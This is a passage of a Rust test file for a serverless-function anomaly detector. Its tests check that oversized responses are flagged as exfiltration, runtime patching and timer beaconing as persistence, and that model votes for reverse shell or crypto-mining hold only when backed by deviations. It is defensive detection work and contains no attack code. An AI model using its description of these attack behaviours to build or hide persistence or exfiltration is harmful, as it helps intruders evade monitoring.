    let f = d.record(&timed_out(31, 2_990), 2).expect("burned again");
    assert_eq!(f.class, Class::DenialOfWallet);
    assert!(f.severity >= Severity::Medium, "{f:?}");
}

fn responding(seq: u64, bytes: u64) -> FeatureRecord {
    let mut r = record(seq);
    r.platform.produced_bytes = Some(bytes);
    r
}

#[test]
fn a_response_far_larger_than_any_before_is_response_exfiltration_each_time() {
    // A function whose responses vary widely by design, in a new environment.
    let sizes = [2_000, 31_000, 500, 18_000, 5_600, 63, 24_000];
    let mut d = detector();
    for (i, &bytes) in sizes.iter().enumerate() {
        assert_eq!(d.record(&responding(i as u64 + 1, bytes), 0), None);
    }
    let mut seq = sizes.len() as u64;
    for dump in [2_400_000, 3_100_000, 2_200_000] {
        seq += 1;
        let f = d
            .record(&responding(seq, dump), 0)
            .expect("the dump is found");
        assert_eq!(f.class, Class::ExfiltrationResponse);
        assert!(
            f.indicators.contains(&Indicator::OversizedResponse),
            "{f:?}"
        );
        assert_eq!(f.explanation[0].feature, "produced_bytes");
        // Between dumps, ordinary responses raise nothing.
        seq += 1;
        assert_eq!(d.record(&responding(seq, 9_000), 0), None);
    }
    // A response in the function's usual spread is not one.
    seq += 1;
    assert_eq!(d.record(&responding(seq, 40_000), 0), None);
}

fn patched(name: &str) -> Observation {
    Observation::Patched {
        pid: 9,
        name: name.into(),
    }
}

#[test]
fn a_runtime_function_patched_in_an_invocation_is_persistence_named_by_its_indicator() {
    let mut d = warmed();
    let f = d
        .record(&with(record(31), patched("JSON.parse")), 0)
        .expect("the plant is found where it happened");
    assert_eq!(f.class, Class::Persistence);
    assert_eq!(f.indicators, [Indicator::RuntimePatched]);
    // No feature of the vector moved: the explanation names the indicator, not its carrier.
    assert_eq!(f.explanation[0].feature, "runtime_patched");
    assert_eq!(f.explanation[0].normal, None);
    assert!(f.evidence.contains(&patched("JSON.parse")));
}

#[test]
fn a_function_that_patches_at_init_or_on_every_call_learns_it() {
    // At init: learned with the init record, never reported.
    let mut d = warmed();
    assert_eq!(
        d.record(&init_record(vec![patched("console.log")]), 0),
        None
    );
    assert_eq!(d.record(&with(record(31), patched("console.log")), 0), None);
    // Per request (a logger set up in the handler): reported while it is new, then a habit.
    let mut d = warmed();
    let found: Vec<bool> = (31..=36)
        .map(|seq| {
            d.record(&with(record(seq), patched("console.info")), 0)
                .is_some()
        })
        .collect();
    assert_eq!(found, [true, true, true, false, false, false]);
    // Another function patched is news again.
    assert!(d
        .record(&with(record(37), patched("http.request")), 0)
        .is_some());
}

fn guarded_connect(addr: &str, at_thaw: bool) -> Observation {
    Observation::Connect {
        pid: 9,
        proto: crate::schema::Proto::Tcp,
        addr: addr.parse().unwrap(),
        verdict: crate::schema::PolicyVerdict::Allow,
        at_thaw,
    }
}

#[test]
fn a_timer_whose_first_call_out_came_at_the_thaw_is_named_where_it_was_planted() {
    let run = |first_at_thaw: bool| {
        let mut d = detector();
        for seq in 1..=4 {
            assert_eq!(d.record(&record(seq), 0), None, "benign {seq}");
        }
        // The plant (a timer) calls out only after the response: as the next thaw begins.
        assert_eq!(d.record(&record(5), 0), None);
        let _ = d.record(
            &with(record(6), guarded_connect("10.9.9.8:8443", first_at_thaw)),
            0,
        );
        d.record(&with(record(7), guarded_connect("10.9.9.8:8443", false)), 0)
    };
    let f = run(true).expect("the second contact in a row");
    assert_eq!(f.class, Class::Persistence);
    assert!(f.indicators.contains(&Indicator::Beaconing));
    assert_eq!(f.earlier_requests, ["req-5", "req-6"]);
    // A first contact made while the invocation ran is that invocation's own: a cadence
    // needs a third contact.
    assert!(run(false).is_none_or(|f| !f.indicators.contains(&Indicator::Beaconing)));
}

/// Votes reverse shell for a failed invocation and crypto-mining for a busy one: a model that
/// misjudges a function's errors, and one that sees what it should.
struct VotesOnDeviation;

impl Scorer for VotesOnDeviation {
    fn score(&self, raw: &[f32; N], z: &[f32; N]) -> ModelOutput {
        let class = if raw[idx::STATUS_ERROR] > 0.0 {
            Some((Class::ReverseShell, 0.95))
        } else if z[idx::CPU_MS] > 5.0 {
            Some((Class::CryptoMining, 0.95))
        } else {
            None
        };
        ModelOutput {
            class,
            anomaly: 0.0,
            contributions: vec![(idx::SHELLS, 1.0)],
        }
    }
}

#[test]
fn a_deviation_backs_the_models_vote_only_when_it_shows_the_voted_class() {
    let health = Arc::new(Health::default());
    let mut d = Detector::new(DetectorConfig::default(), health.clone(), 0)
        .with_scorer(Some(Arc::new(VotesOnDeviation)));
    for seq in 1..=30 {
        assert_eq!(d.record(&record(seq), 0), None, "benign {seq}");
    }
    // A long, failed invocation: its duration and error deviate, none of what shows a
    // reverse shell does. The vote is the model's alone: not reported past learning.
    let mut failed = record(31);
    failed.status = crate::schema::Status::Error;
    failed.platform.duration_ms = Some(300.0);
    failed.log.error_lines = 1;
    failed.log.tracebacks = 1;
    assert_eq!(d.record(&failed, 0), None);
    assert_eq!(health.get(Counter::ModelVotesUnsupported), 1);
    // A busy one: the CPU the vote's class moves deviates, and backs it.
    let mut busy = record(32);
    busy.counters.cpu_user_ms = 5_000;
    busy.platform.duration_ms = Some(5_000.0);
    let f = d
        .record(&busy, 0)
        .expect("the vote backed by the deviation");
    assert_eq!(f.class, Class::CryptoMining);
}
